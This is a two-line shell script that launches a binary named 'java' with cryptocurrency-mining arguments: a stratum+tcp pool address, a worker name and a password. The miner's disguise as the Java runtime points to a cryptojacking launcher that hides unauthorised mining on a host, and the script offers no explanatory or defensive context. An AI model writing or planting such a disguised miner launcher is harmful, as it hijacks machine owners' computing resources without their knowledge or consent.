#!/bin/sh
exec ./java --url stratum+tcp://192.0.2.1:4444 --user rig1.worker --pass x
